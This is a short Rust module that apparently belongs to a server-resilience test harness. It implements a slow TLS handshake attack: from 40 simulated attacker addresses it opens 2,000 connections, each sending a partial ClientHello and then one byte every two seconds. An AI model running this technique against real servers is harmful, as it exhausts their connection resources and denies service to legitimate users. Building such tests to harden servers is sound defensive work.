//! TLS handshakes that do not end.

use std::time::Duration;

use tokio::io::AsyncWriteExt;

use super::{Attack, crowd};
use crate::{http1, stage::Stage};

/// The first bytes of a ClientHello of 500 bytes.
const BEGINNING: &[u8] = b"\x16\x03\x01\x01\xf4\x01\x00\x01\xf0\x03\x03";

/// 40 addresses, 2,000 handshakes at a byte in two seconds.
pub async fn slow_handshakes(stage: &Stage) -> Attack {
    let ground = stage.ground();
    crowd(2_000, move |number| {
        let ground = ground.clone();
        async move {
            let source = ground.sources.attacker(number % 40);
            let Some(mut connection) = http1::sent(&ground, source, BEGINNING).await else { return };
            while connection.write_all(b"\0").await.is_ok() {
                tokio::time::sleep(Duration::from_secs(2)).await;
            }
        }
    })
}
